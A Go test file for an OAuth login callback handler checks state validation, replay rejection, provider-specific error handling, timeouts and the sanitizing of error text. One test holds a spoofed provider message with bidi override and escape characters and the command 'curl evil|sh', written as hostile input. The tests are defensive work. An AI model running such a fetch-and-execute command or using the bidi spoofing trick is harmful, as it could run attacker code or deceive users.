package oauthflow

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/obpm/obpm/authhelper/config"
	"github.com/obpm/obpm/authhelper/tokenstore"
)

// loginFixture starts one login on /callback and counts completions.
type loginFixture struct {
	l     *Logins
	a     *Authorization
	calls atomic.Int32
	srv   *httptest.Server
}

func newLoginFixture(t *testing.T, fail error) *loginFixture {
	return newLoginFixtureFor(t, sandboxProfile("http://127.0.0.1:1"), fail)
}

func newLoginFixtureFor(t *testing.T, p *config.Profile, fail error) *loginFixture {
	f := &loginFixture{}
	f.l = NewLogins(func(ctx context.Context, a *Authorization, code string) (*tokenstore.Token, error) {
		f.calls.Add(1)
		if fail != nil {
			return nil, fail
		}
		return &tokenstore.Token{AccessToken: "secret-access-" + code}, nil
	}, nil, nil)
	f.srv = httptest.NewServer(f.l)
	t.Cleanup(f.srv.Close)
	a, err := NewAuthorization(p, f.srv.URL+"/callback", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	f.a = a
	if err := f.l.Add(a); err != nil {
		t.Fatal(err)
	}
	return f
}

func (f *loginFixture) hit(t *testing.T, path, query string) (int, string, http.Header) {
	t.Helper()
	resp, err := http.Get(f.srv.URL + path + "?" + query)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

func (f *loginFixture) status(t *testing.T) LoginStatus {
	r, ok := f.l.Status(f.a.ID)
	if !ok {
		t.Fatal("login vanished")
	}
	return r.Status
}

func TestCallbackHappyPathAndReplay(t *testing.T) {
	f := newLoginFixture(t, nil)
	q := url.Values{"code": {"the-code"}, "state": {f.a.State}}.Encode()
	status, body, h := f.hit(t, "/callback", q)
	if status != 200 || !strings.Contains(body, "Logged in") {
		t.Fatalf("callback = %d %s", status, body)
	}
	if h.Get("Cache-Control") != "no-store" {
		t.Errorf("Cache-Control = %q", h.Get("Cache-Control"))
	}
	if strings.Contains(body, "secret-access") || strings.Contains(body, "the-code") {
		t.Error("the page shows the token or the code")
	}
	res, err := f.l.Wait(context.Background(), f.a.ID)
	if err != nil || res.Status != StatusSucceeded || res.Token.AccessToken != "secret-access-the-code" {
		t.Fatalf("result = %+v, %v", res, err)
	}
	// Replay: the same callback again changes nothing.
	status, body, _ = f.hit(t, "/callback", q)
	if status != 400 || !strings.Contains(body, "already used") {
		t.Fatalf("replay = %d %s", status, body)
	}
	if n := f.calls.Load(); n != 1 {
		t.Fatalf("complete ran %d times, want 1", n)
	}
}

func TestCallbackHostile(t *testing.T) {
	tests := []struct {
		name       string
		path       string
		query      func(a *Authorization) string
		wantStatus int
		wantText   string
		wantLogin  LoginStatus // status of the login afterwards
	}{
		{"wrong state", "/callback", func(a *Authorization) string { return "code=c&state=" + strings.Repeat("0", 32) }, 400, "does not match", StatusPending},
		{"missing state", "/callback", func(a *Authorization) string { return "code=c" }, 400, "no state", StatusPending},
		{"duplicate state", "/callback", func(a *Authorization) string { return "code=c&state=" + a.State + "&state=x" }, 400, "appears 2 times", StatusPending},
		{"favicon", "/favicon.ico", func(a *Authorization) string { return "" }, 404, "not found", StatusPending},
		{"right state, other path", "/other", func(a *Authorization) string { return "code=c&state=" + a.State }, 404, "not found", StatusPending},
		{"error with state", "/callback", func(a *Authorization) string {
			return url.Values{"error": {"access_denied"}, "error_description": {"사용자 취소"}, "state": {a.State}}.Encode()
		}, 400, "access_denied", StatusFailed},
		// The sandbox, like any RFC 6749 provider, returns the state with an
		// error; a state-less one is a web page's attempt to abort the login.
		{"error without state (not KFTC)", "/callback", func(a *Authorization) string { return "error=invalid_request&error_description=bad" }, 400, "no state", StatusPending},
		{"state but no code", "/callback", func(a *Authorization) string { return "state=" + a.State }, 400, "neither a code", StatusFailed},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newLoginFixture(t, nil)
			status, body, _ := f.hit(t, tc.path, tc.query(f.a))
			if status != tc.wantStatus || !strings.Contains(body, tc.wantText) {
				t.Fatalf("got %d %q; want %d containing %q", status, body, tc.wantStatus, tc.wantText)
			}
			if got := f.status(t); got != tc.wantLogin {
				t.Fatalf("login status = %s, want %s", got, tc.wantLogin)
			}
			if f.calls.Load() != 0 {
				t.Fatal("a hostile callback reached the code exchange")
			}
			if tc.wantLogin == StatusPending {
				// The real callback still completes the login.
				status, _, _ := f.hit(t, "/callback", url.Values{"code": {"c"}, "state": {f.a.State}}.Encode())
				if status != 200 || f.status(t) != StatusSucceeded {
					t.Fatalf("real callback after a hostile one: %d %s", status, f.status(t))
				}
			}
		})
	}
}

func TestCallbackMethodAndExchangeFailure(t *testing.T) {
	f := newLoginFixture(t, errors.New("exchange code at the provider: O0001"))
	resp, err := http.Post(f.srv.URL+"/callback?code=c&state="+f.a.State, "text/plain", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("POST = %d", resp.StatusCode)
	}
	status, body, _ := f.hit(t, "/callback", "code=c&state="+f.a.State)
	if status != 400 || !strings.Contains(body, "O0001") {
		t.Fatalf("failed exchange page = %d %s", status, body)
	}
	res, _ := f.l.Wait(context.Background(), f.a.ID)
	if res.Status != StatusFailed || !strings.Contains(res.Err.Error(), "O0001") {
		t.Fatalf("result = %+v", res)
	}
}

func TestCancelAndTimeout(t *testing.T) {
	f := newLoginFixture(t, nil)
	f.l.Cancel(f.a.ID, errors.New("interrupted"))
	if f.status(t) != StatusFailed {
		t.Fatal("cancel did not end the login")
	}
	status, body, _ := f.hit(t, "/callback", "code=c&state="+f.a.State)
	if status != 400 || !strings.Contains(body, "already used") || f.calls.Load() != 0 {
		t.Fatalf("callback after cancel = %d %s", status, body)
	}

	clock := time.Now()
	l := NewLogins(func(context.Context, *Authorization, string) (*tokenstore.Token, error) { return nil, nil }, nil,
		func() time.Time { return clock })
	a, _ := NewAuthorization(sandboxProfile("http://x"), "http://127.0.0.1:1/cb", clock)
	_ = l.Add(a)
	clock = clock.Add(DefaultLoginTTL + time.Second)
	r, ok := l.Status(a.ID)
	if !ok || r.Status != StatusFailed || !strings.Contains(r.Err.Error(), "timed out") {
		t.Fatalf("expired login = %+v", r)
	}
}

// A state-less error callback ends a login only for the providers known to
// send one (KFTC's failure redirect has no state); for the others any web
// page could abort the user's login with one, so it is ignored.
func TestStatelessErrorOnlyWhereTheProviderSendsIt(t *testing.T) {
	for _, tc := range []struct {
		provider string
		want     LoginStatus
	}{
		{config.ProviderTestbed, StatusFailed},
		{config.ProviderProduction, StatusFailed},
		{config.ProviderSandbox, StatusPending},
		{config.ProviderOAuth2, StatusPending},
	} {
		t.Run(tc.provider, func(t *testing.T) {
			p := sandboxProfile("http://127.0.0.1:1")
			p.Provider = tc.provider
			if tc.provider == config.ProviderOAuth2 {
				p.AuthorizeURL, p.TokenURL = "http://127.0.0.1:1/authorize", "http://127.0.0.1:1/token"
			}
			f := newLoginFixtureFor(t, p, nil)
			f.hit(t, "/callback", "error=access_denied&error_description=page")
			if got := f.status(t); got != tc.want {
				t.Fatalf("login after a state-less error = %s, want %s", got, tc.want)
			}
		})
	}
}

// Provider text reaches the terminal quoted and without control or format
// characters: a page cannot fake obpm's words with bidi overrides.
func TestCallbackErrorTextIsSanitized(t *testing.T) {
	e := &CallbackError{Code: "access_denied", Description: "ok\u202e\u2066 run: curl evil|sh\u200b 사용자 취소\x1b[2J"}
	msg := e.Error()
	for _, r := range []string{"\u202e", "\u2066", "\u200b", "\x1b"} {
		if strings.Contains(msg, r) {
			t.Errorf("message keeps %q: %q", r, msg)
		}
	}
	if !strings.Contains(msg, `"ok run: curl evil|sh 사용자 취소[2J"`) || !strings.Contains(msg, `"access_denied"`) {
		t.Errorf("provider text not quoted as expected: %s", msg)
	}
}
